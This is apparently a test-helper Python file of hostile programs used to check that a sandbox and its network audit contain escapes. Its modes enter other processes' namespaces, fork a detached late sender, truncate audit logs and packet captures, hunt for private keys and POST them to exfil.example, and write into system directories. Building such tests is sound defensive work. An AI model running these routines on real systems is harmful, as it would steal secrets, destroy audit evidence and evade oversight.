"""Programs that try to get out of the sandbox, or to fool the audit: one mode per escape.

Run inside the sandbox by tests/e2e/test_hostile.py (this file holds no tests). Each mode tries
every way it knows and prints one JSON line saying what it achieved, so the test can assert on the
outcome. Names are under .example; the only "host service" is the test's own loopback listener.
"""

import ctypes
import glob
import json
import os
import re
import socket
import ssl
import sys
import time
import urllib.request

_libc = ctypes.CDLL(None, use_errno=True)
WATCH = (b"mitmdump", b"tcpdump", b"auditor.sandbox", b"auditor.watchdog", b"\0auditor\0")
PEM_KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/=\s]{100,}")
TOOLCHAINS = {".pyenv", ".rustup", ".cargo", ".nvm", "node_modules", ".venv"}


def send_canary(host: str, data: bytes) -> str:
    """POST data to a (sinkholed) host over HTTPS: the audit must record it."""
    req = urllib.request.Request(f"https://{host}/collect", data=data, method="POST")
    try:
        return urllib.request.urlopen(req, timeout=10, context=ssl.create_default_context()).read().decode()
    except Exception as e:  # noqa: BLE001
        return f"error: {e}"


def reach(port: int, data: bytes) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
            s.sendall(data)
        return "sent"
    except OSError as e:
        return f"error: {e.strerror or e}"


def setns(port: str) -> None:
    """Enter a namespace of another process through /proc (the audit's, the machine's) and reach the
    host's loopback service from there."""
    seen, entered, errors = [], [], set()
    mine = {k: os.readlink(f"/proc/self/ns/{k}") for k in ("net", "mnt", "pid", "user")}
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        seen += [w.decode() for w in WATCH if w in cmd and pid != str(os.getpid())]
        for kind in ("user", "net", "mnt"):
            try:
                if os.readlink(f"/proc/{pid}/ns/{kind}") == mine[kind]:
                    continue
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError as e:
                errors.add(e.strerror)
                continue
            if _libc.setns(fd, 0) == 0:
                entered.append(f"{pid}/{kind}")
            else:
                errors.add(os.strerror(ctypes.get_errno()))
            os.close(fd)
    try:  # the machine's PID 1 by its root: the host file system seen through /proc
        host_root = os.listdir("/proc/1/root/tmp")
    except OSError as e:
        host_root = [f"error: {e.strerror}"]
    tried = 0
    for fd_path in ("/proc/1/ns/net",):  # PID 1: the machine's init, or the sandbox's own
        try:
            fd = os.open(fd_path, os.O_RDONLY)
            tried += 1
            if _libc.setns(fd, 0) == 0:
                entered.append(fd_path)
            os.close(fd)
        except OSError as e:
            errors.add(e.strerror)
    print(json.dumps({"seen": sorted(set(seen)), "entered": entered, "errors": sorted(errors),
                      "tried_pid1": tried, "host_tmp": host_root[:5],
                      "reached": reach(int(port), b"SETNS-CANARY reached the host service")}))


def late(port: str, token: str) -> None:
    """A detached sender, as telemetry clients do it: double fork, new session, empty environment;
    it sends ten seconds later, when the audit should be over."""
    if os.fork():
        print("detached a late sender")
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.execve(sys.executable, [sys.executable, __file__, "late_child", port, token], {})


def late_child(port: str, token: str) -> None:
    time.sleep(10)
    data = f"LATE-CANARY {token}".encode()
    reach(int(port), data)
    try:
        with socket.create_connection(("late.example", 7000), timeout=5) as s:
            s.sendall(data)
    except OSError:
        pass


def truncate(out: str) -> None:
    """Send something, then destroy the evidence: the run's flows, events and packets."""
    answer = send_canary("evidence.example", b"EVIDENCE-CANARY sent before the evidence was destroyed")
    names = ("flows.mitm", "events.jsonl", "capture.pcap", "witness.strace")
    candidates = {p for n in names for p in glob.glob(f"{out}/runs/*/*/{n}")}
    for root in ("/tmp", "/var/tmp", "/run", "/home", "/root", os.path.dirname(out)):
        for d, dirs, files in os.walk(root):
            dirs[:] = [x for x in dirs if x not in TOOLCHAINS]
            candidates |= {os.path.join(d, f) for f in files if f in names}
    for fd in glob.glob("/proc/[0-9]*/fd/*"):  # a descriptor the capture holds open
        try:
            if os.path.basename(os.readlink(fd)) in names:
                candidates.add(fd)
        except OSError:
            pass
    done, failed = [], {}
    for path in sorted(candidates):
        try:
            with open(path, "r+b") as fo:
                fo.truncate(0)
            done.append(path)
        except OSError as e:
            failed[path] = e.strerror
    print(json.dumps({"sent": answer, "truncated": done, "failed": failed, "found": len(candidates)}))


def ca_key(out: str) -> None:
    """Look for the audit CA's private key wherever an audit might keep it, and send what is found."""
    keys, looked = [], 0
    roots = ["/tmp", "/var/tmp", "/run", "/home", "/root", "/dev/shm", "/etc", os.path.dirname(out)]
    for cand in (os.environ.get("SSL_CERT_FILE", ""), *glob.glob("/tmp/egress-audit-*/ca/*")):
        if cand:
            roots.append(os.path.dirname(cand))
    for root in roots:
        for d, dirs, files in os.walk(root):
            dirs[:] = [x for x in dirs if x not in TOOLCHAINS]  # large, and nothing of the audit's
            for f in files:
                looked += 1
                path = os.path.join(d, f)
                try:
                    with open(path, "rb") as fo:
                        data = fo.read(1 << 16)
                except OSError:
                    continue
                if PEM_KEY.search(data):
                    keys.append(path)
                    send_canary("exfil.example", data)
    print(json.dumps({"keys": keys, "looked": looked}))


def write(repo: str, scenario: str, token: str) -> None:
    """Write outside HOME: system directories, root's home, the repository, the scenario."""
    targets = [f"/etc/{token}", f"/usr/local/{token}", f"/root/{token}", f"{repo}/{token}",
               f"{scenario}/{token}", f"/var/tmp/{token}", f"/tmp/{token}"]
    result = {}
    for t in targets:
        try:
            with open(t, "w") as fo:
                fo.write("written by the program under test\n")
            result[t] = "ok"
        except OSError as e:
            result[t] = e.strerror
    print(json.dumps(result))


if __name__ == "__main__":
    globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
